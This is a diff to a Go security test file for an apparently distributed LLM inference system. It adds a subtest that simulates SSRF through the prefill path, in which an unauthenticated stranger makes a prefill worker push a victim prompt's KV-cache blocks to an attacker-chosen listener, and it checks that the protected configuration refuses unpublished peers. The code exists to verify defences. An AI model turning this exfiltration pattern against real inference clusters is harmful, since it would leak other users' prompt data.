@@ -205,6 +205,52 @@ func runAttacks(t *testing.T, an attackNet) {
 				}
 			})
 
+			t.Run("SSRF through Prefill", func(t *testing.T) {
+				// The prefill leg's blocks (and its prompt, in the Begin
+				// frame) would go to the stranger's listener.
+				lis, err := an.listen("tcp", an.attackerHost+":0")
+				if err != nil {
+					t.Fatal(err)
+				}
+				defer lis.Close()
+				got := make(chan int64, 1)
+				go func() {
+					c, err := lis.Accept()
+					if err != nil {
+						got <- 0
+						return
+					}
+					defer c.Close()
+					var total int64
+					buf := make([]byte, 64<<10)
+					for {
+						_ = c.SetReadDeadline(time.Now().Add(500 * time.Millisecond))
+						n, err := c.Read(buf)
+						total += int64(n)
+						if err != nil {
+							break
+						}
+					}
+					got <- total
+				}()
+				ctx, cancel := context.WithTimeout(context.Background(), 8*time.Second)
+				defer cancel()
+				_, perr := requestplane.NewSide(stranger(pre.RequestPlane), requestplane.SideDesc{ID: "p1"}).PrefillAndSend(ctx,
+					&engine.Request{ID: "ssrf", Prompt: victim, MaxTokens: 1}, kvtransfer.Peer{ID: "victim", Addr: lis.Addr().String()}, 0)
+				lis.Close()
+				n := <-got
+				if tc.protected {
+					if n != 0 || perr == nil {
+						t.Fatalf("the prefill worker sent %d bytes to the stranger's address (err %v)", n, perr)
+					}
+					return
+				}
+				if n < 2*16*bpt {
+					t.Fatalf("the open prefill worker sent %d bytes (err %v)", n, perr)
+				}
+				t.Logf("open: the prefill worker pushed %d bytes of KV to an address of the caller's choosing", n)
+			})
+
 			t.Run("SSRF through Link", func(t *testing.T) {
 				lis, err := an.listen("tcp", an.attackerHost+":0")
 				if err != nil {
@@ -287,9 +333,15 @@ func TestSSRFWithoutMTLS(t *testing.T) {
 	defer c.Close()
 	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
 	defer cancel()
-	_, lerr := requestplane.NewSide(c, requestplane.SideDesc{ID: "p1"}).LinkThroughput(ctx, kvtransfer.Peer{ID: "x", Addr: lis.Addr().String()})
+	side := requestplane.NewSide(c, requestplane.SideDesc{ID: "p1"})
+	_, lerr := side.LinkThroughput(ctx, kvtransfer.Peer{ID: "x", Addr: lis.Addr().String()})
 	if kvtransfer.CodeOf(lerr) != kvtransfer.CodeRefusedPeer {
 		t.Fatalf("Link to an unpublished address: %v", lerr)
+	}
+	prompt := make([]engine.Token, 33)
+	_, perr := side.PrefillAndSend(ctx, &engine.Request{ID: "p", Prompt: prompt, MaxTokens: 1}, kvtransfer.Peer{ID: "x", Addr: lis.Addr().String()}, 0)
+	if kvtransfer.CodeOf(perr) != kvtransfer.CodeRefusedPeer {
+		t.Fatalf("Prefill to an unpublished address: %v", perr)
 	}
 	lis.Close()
 	if <-accepted {
